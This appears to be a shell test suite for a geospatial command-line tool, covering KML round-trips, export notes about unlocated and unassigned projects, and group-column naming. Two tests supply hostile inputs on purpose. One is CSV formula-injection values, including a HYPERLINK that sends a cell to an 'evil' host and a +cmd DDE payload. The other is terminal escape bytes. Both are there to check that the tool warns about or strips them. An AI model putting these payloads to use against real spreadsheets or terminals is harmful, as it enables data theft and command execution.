    # read by Python's parser (escaped or CDATA, the text is the same).
    pycheck "xml.etree" k.kml <<'PY'
import sys, xml.etree.ElementTree as ET
ns = {'k': 'http://www.opengis.net/kml/2.2'}
pm = ET.parse(sys.argv[1]).getroot().findall('.//k:Placemark', ns)
names = [p.find('k:name', ns).text for p in pm]
want = ['Zürich <Safe> & "City"', 'K2', 'Site']
data = {p.find('k:name', ns).text: {d.get('name'): d.text for d in p.iter('{http://www.opengis.net/kml/2.2}SimpleData')} for p in pm}
if sorted(names) != sorted(want): print('names', names)
elif data['Zürich <Safe> & "City"'].get('note') != '北京 & <b>x</b>': print('note', data['Zürich <Safe> & "City"'])
elif data['K2'].get('visibility') != 'public' or 'name' in data['K2']: print('K2 data', data['K2'])
elif data['Site'].get('status') != 'built': print('K3 data', data['Site'])
else: print('ok')
PY
case_end

case_begin "KML read back by import (footprint's own export): diff against the original, 0 changed; a project without a name stays without"
    "$FP" -q --db $KDB import k.kml --dataset k2 > /dev/null
    run --db $KDB diff --dataset k1 --against k2
    assert_eq 0 "$RC" "exit status ($OUT)"
    assert_contains "$OUT" "3 matched (3 by id, 0 by name+company+location)" "matched"
    assert_contains "$OUT" "0 added, 0 removed, 0 moved more than 100 m (0 of them also changed), 0 changed, 3 unchanged" "counts"
    assert_eq "|" "$(sqlite3 $KDB "SELECT coalesce(name, '') || '|' || coalesce(json_extract(extra, '$.name'), '') FROM projects WHERE dataset = 'k2' AND source_key = 'K2'")" "K2: no name, and none in its extra columns"
    assert_eq "public" "$(sqlite3 $KDB "SELECT json_extract(extra, '$.visibility') FROM projects WHERE dataset = 'k2' AND source_key = 'K2'")" "an attribute named like a KML element kept"
    assert_eq "0" "$(sqlite3 $KDB "SELECT count(*) FROM projects WHERE dataset = 'k2' AND (extra LIKE '%tessellate%' OR extra LIKE '%footprint_kml%')")" "no KML element taken for an attribute"
case_end

case_begin "KML: --append, --crs, --precision and --bbox refused (exit 2, naming the option, nothing written); --split-by: a folder per value in one file"
    for opt in "--append" "--crs EPSG:3857" "--precision 3" "--bbox"; do
        run --db $KDB export $opt -o refused.kml
        assert_eq 2 "$RC" "$opt: exit status ($OUT)"
        assert_contains "$OUT" "${opt%% *}" "$opt: named"
    done
    # A .kmz is a zip: plain KML under that name opens nowhere (it was
    # written with --format kml, exit 0).
    run --db $KDB export --format kml -o refused.kmz
    assert_eq 2 "$RC" "--format kml -o .kmz: exit status ($OUT)"
    assert_contains "$OUT" "KMZ is not written; say -o FILE.kml" "--format kml -o .kmz: said"
    assert_eq "" "$(ls refused* 2>/dev/null; temp_left)" "nothing written"
    run --db $KDB export --dataset k1 --split-by category -o split.kml
    assert_eq 0 "$RC" "exit status ($OUT)"
    # By hand: surveillance (K1), cable (K2, K3).
    assert_eq "projects_cable: 2|projects_surveillance: 1" \
        "$(for l in $(ogrinfo -ro -q split.kml 2>/dev/null | sed -n 's/^[0-9]*: \([^ ]*\).*/\1/p' | sort); do echo "$l: $(ogr_count split.kml "$l")"; done | paste -sd'|')" "layers and counts"
case_end

case_begin "export says how many projects it left out for want of a location (an outside tester's partner sheet was one activity short without a word)"
fp_init unl.sqlite
printf 'id,name,place,country,lat,lon\nA,a,,KEN,-1.29,36.82\nB,b,Nakuru,KEN,,\nC,c,Mombasa,KEN,,\n' > unl.csv
"$FP" -q --db unl.sqlite import unl.csv
assert_eq 2 "$(sqlite3 unl.sqlite "SELECT count(*) FROM projects WHERE geom IS NULL")" "projects without a location (sqlite3)"
run --db unl.sqlite export -o unl_out.csv
assert_eq 0 "$RC" "exit status ($OUT)"
assert_contains "$OUT" "export: 2 projects without a location left out" "the note"
assert_eq 1 "$(python3 -c 'import csv,sys; print(sum(1 for _ in csv.DictReader(open(sys.argv[1], encoding="utf-8-sig"))))' unl_out.csv)" "the CSV's rows (Python's csv)"
run --db unl.sqlite export -o unl_a.geojson --where name=a
assert_not_contains "$OUT" "without a location" "no note when the conditions select only located projects"
run --db unl.sqlite export -o unl_b.geojson --where name=b --where name=c
assert_contains "$OUT" "export: 2 projects without a location left out" "the note counts what the conditions select"
# The QGIS project's GeoPackage holds the located one only, and says so too.
"$FP" -q --db unl.sqlite aggregate --by country --group category > /dev/null || fail "aggregate"
run --db unl.sqlite export -o unl.qgz
assert_eq 0 "$RC" "qgz exit status ($OUT)"
assert_contains "$OUT" "export: 2 projects without a location left out" "the note of a .qgz export"
assert_eq 1 "$(ogrinfo -ro -so unl.gpkg projects 2>/dev/null | sed -n 's/^Feature Count: //p')" "the project's GeoPackage's projects (ogrinfo)"
case_end

case_begin "an aggregation's export says how many projects its _unassigned row holds (no geometry, not in the file): the file's counts sum to that many fewer"
# One point at sea (0,0), one in Nairobi: the CSV's countries count 1 of 2
# (read by Python's csv), the store's _unassigned row 1 (sqlite3).
printf 'id,company,category,lon,lat\nS1,ZTE,telecom,0,0\nS2,ZTE,telecom,36.8,-1.3\n' > sea.csv
fp_init sea.sqlite && "$FP" -q --db sea.sqlite import sea.csv && "$FP" -q --db sea.sqlite aggregate --by country --group category
assert_eq "1" "$(sqlite3 sea.sqlite "SELECT projects FROM agg_country_by_category WHERE level='country' AND code='_unassigned'")" "the store's unassigned row"
run --db sea.sqlite export --what aggregate:country_by_category -o sea_agg.csv
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "1" "$(python3 -c "import csv, sys; csv.field_size_limit(sys.maxsize); print(sum(int(r['projects']) for r in csv.DictReader(open('sea_agg.csv'))))")" "the file's countries count 1 project"
assert_contains "$OUT" "export: 1 project of aggregation country_by_category in no country region" "the note"
assert_contains "$OUT" "--what assignments:country_by_category" "the note says where each project's region is"
# ... where each row carries the project's dataset and source key, to join back to the list.
"$FP" -q --db sea.sqlite export --what assignments:country_by_category -o sea_asg.csv || fail "assignments export"
assert_eq "sea|S1||unassigned sea|S2|KEN|contained" "$(python3 -c "import csv; print(' '.join('|'.join((r['dataset'], r['source_key'], r['region_code'], r['method'])) for r in csv.DictReader(open('sea_asg.csv'))))")" "assignments: dataset, source_key, region, method"
# Nothing to say when every project has a region.
fp_init land.sqlite && printf 'id,company,category,lon,lat\nS2,ZTE,telecom,36.8,-1.3\n' > land.csv && "$FP" -q --db land.sqlite import land.csv && "$FP" -q --db land.sqlite aggregate --by country
run --db land.sqlite export --what aggregate:country -o land.geojson
assert_eq 0 "$RC" "exit status ($OUT)"
assert_not_contains "$OUT" "_unassigned" "no note without unassigned projects"
case_end

case_begin "group columns: accents folded (université -> category_universite), and a key file beside the export when a name cannot spell its value (监控, a second spelling)"
# Before: category_universit, category_berwachung, category_x with no key in any file.
printf 'id,company,category,lon,lat\nC1,H,监控,116.4,39.9\nC2,Z,通信,121.5,31.2\nC3,Z,Überwachung,13.4,52.5\nC4,Z,université,2.35,48.85\nC5,Z,Smart City,2.36,48.85\nC6,Z,smart city,2.37,48.85\n' > grp.csv
fp_init grp.sqlite && "$FP" -q --db grp.sqlite import grp.csv && "$FP" -q --db grp.sqlite aggregate --by country --group category
run --db grp.sqlite export --what aggregate:country_by_category -o grp/agg.gpkg
assert_eq 0 "$RC" "exit status ($OUT)"
# The GeoPackage's fields as GDAL reads them.
fields=$(ogrinfo -so grp/agg.gpkg country_by_category | sed -n 's/^\(category_[^:]*\):.*/\1/p' | sort | tr '\n' ' ')
assert_eq "category_smart_city category_smart_city_2 category_uberwachung category_universite category_x category_x_2 " "$fields" "group fields"
assert_contains "$OUT" "export: 3 group column names cannot spell their values (the first: category_smart_city_2 for 'smart city'); every group column's field and value: grp/agg.columns.csv" "the note"
key=$(python3 -c "import csv; print(' '.join(r['column'] + '=' + r['value'] for r in csv.DictReader(open('grp/agg.columns.csv', encoding='utf-8'))))")
assert_eq "category_smart_city=Smart City category_smart_city_2=smart city category_universite=université category_uberwachung=Überwachung category_x=监控 category_x_2=通信" "$key" "the key (Python's csv)"
# The counts under the key's names: 监控 in CHN (category_x), Überwachung in DEU.
assert_eq "CHN|1.0|0.0 DEU|0.0|1.0" "$(sqlite3 grp.sqlite "SELECT code, category_x, category_uberwachung FROM agg_country_by_category WHERE code IN ('CHN','DEU') ORDER BY code" | tr '\n' ' ' | sed 's/ $//')" "counts"
# A list whose names all spell their values gets no key file.
printf 'id,company,category,lon,lat\nA1,H,surveillance,116.4,39.9\n' > plain.csv
fp_init plain.sqlite && "$FP" -q --db plain.sqlite import plain.csv && "$FP" -q --db plain.sqlite aggregate --by country --group category
run --db plain.sqlite export --what aggregate:country_by_category -o plain/agg.csv
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "" "$(ls plain/ | grep columns)" "no key file"
# An export of the same name that needs no key removes the earlier one (it
# would describe columns the new file lacks); a file of another kind stays.
"$FP" -q --db plain.sqlite export --what aggregate:country_by_category -o grp/agg.gpkg 2>/dev/null || fail "re-export"
assert_eq "" "$(ls grp/ | grep columns)" "the stale key removed"
echo "not a key" > plain/mine.columns.csv
"$FP" -q --db plain.sqlite export --what aggregate:country_by_category -o plain/mine.csv 2>/dev/null || fail "export"
assert_eq "not a key" "$(cat plain/mine.columns.csv)" "a file that is no key stays"
case_end

case_begin "CSV: text a spreadsheet would run as a formula (=HYPERLINK, +cmd|, @SUM) is written as it is, with a note naming the first; numbers and a lone dash are not counted"
printf 'id,name,company,category,lon,lat,amount\n1,"=HYPERLINK(""http://evil/?""&A1,""click"")",+cmd|calc!A0,@SUM(1+1),10.1234,20.1234,-5\n2,-12,ACME,-,10.2,20.2,-1.5\n' > formula.csv
fp_init formula.sqlite && "$FP" -q --db formula.sqlite import formula.csv --dataset f
run --db formula.sqlite export -o formula_out.csv
assert_eq 0 "$RC" "exit status"
assert_contains "$OUT" "export: 3 text values that a spreadsheet would run as a formula (beginning with =, @, + or -); the first: layer projects, feature 1" "the note counts three"
# The values as written (Python's csv): unchanged.
assert_eq '=HYPERLINK("http://evil/?"&A1,"click")|+cmd|calc!A0|@SUM(1+1)' "$(python3 -c "import csv; r = next(csv.DictReader(open('formula_out.csv'))); print(r['name'] + '|' + r['company'] + '|' + r['category'])")" "written as they are"
run --db formula.sqlite export -o formula_out.geojson
assert_not_contains "$OUT" "spreadsheet" "no note for GeoJSON"
case_end

case_begin "the export's notes quote a partner's text without its control characters (a category with ESC and C1 bytes)"
printf 'id,company,category,lon,lat\nC1,H,监控\033]0;X\007,116.4,39.9\nC2,H,=\302\233evil,1,1\n' > ctl.csv
fp_init ctl.sqlite && "$FP" -q --db ctl.sqlite import ctl.csv && "$FP" -q --db ctl.sqlite aggregate --by country --group category
run --db ctl.sqlite export --what aggregate:country_by_category -o ctl_agg.geojson
assert_contains "$OUT" "group column names cannot spell their values" "the key's note"
out1=$OUT
run --db ctl.sqlite export -o ctl.csv.out.csv
assert_contains "$OUT" "field category: '=?evil'" "the formula note, the C1 byte shown as ?"
assert_eq 0 "$(printf '%s%s' "$out1" "$OUT" | LC_ALL=C grep -c $'[\x01-\x08\x0b-\x1f\x7f]\|\xc2[\x80-\x9f]')" "no control character in either note"
case_end
